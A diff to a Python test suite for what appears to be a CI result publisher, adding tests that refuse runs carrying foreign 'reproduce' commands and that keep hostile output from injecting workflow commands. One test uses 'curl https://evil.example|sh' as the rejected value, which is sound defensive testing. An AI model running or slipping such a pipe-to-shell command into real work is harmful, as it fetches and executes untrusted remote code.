@@ -184,15 +184,30 @@ def test_what_did_not_look_at_all_is_not_sent(command, document, job, forge, cha
     assert [*forge.checks, *forge.statuses, *forge.comments] == []
 
 
+def hostile():
+    """The hostile Run, but for the commands in it: a document with such commands is not read."""
+    run = runs.hostile()
+    findings = tuple(replace(found, reproduce="") for found in run.gates[0].findings)
+    return replace(run, gates=(replace(run.gates[0], reproduce="", findings=findings),))
+
+
+def test_a_command_that_is_none_of_ours_is_not_sent(command, document, job, forge):
+    run = runs.failed()
+    run = replace(run, gates=(replace(run.gates[0], reproduce="curl https://evil.example|sh"),))
+    done = command("publish", document(run), *flags("check-run", "status"), **job())
+    assert (done.returncode, "no command of Sluicegate" in done.stderr) == (2, True)
+    assert [*forge.checks, *forge.statuses, *forge.comments] == []
+
+
 def test_a_hostile_run_stays_text(command, document, job, forge):
     environ = job("workflow_run", from_fork())
-    done = command("publish", document(runs.hostile()), *flags("check-run", "comment", "sarif", "status"), **environ)
+    done = command("publish", document(hostile()), *flags("check-run", "comment", "sarif", "status"), **environ)
     assert "Traceback" not in done.stderr
     assert (len(forge.checks), len(forge.comments), len(forge.uploads), len(forge.statuses)) == (1, 1, 1, 1)
     assert "::set-output" not in done.stdout + done.stderr
     assert not any(line.lstrip().startswith("::") for line in done.stderr.splitlines())
     forge.faults.append(Fault("POST", "/statuses/" + HEAD, 403, NO_ACCESS))
-    done = command("publish", document(runs.hostile()), "--to", "status", **environ)
+    done = command("publish", document(hostile()), "--to", "status", **environ)
     assert all(line.startswith(("::error", "::warning", "::notice")) for line in done.stdout.splitlines())
 
 
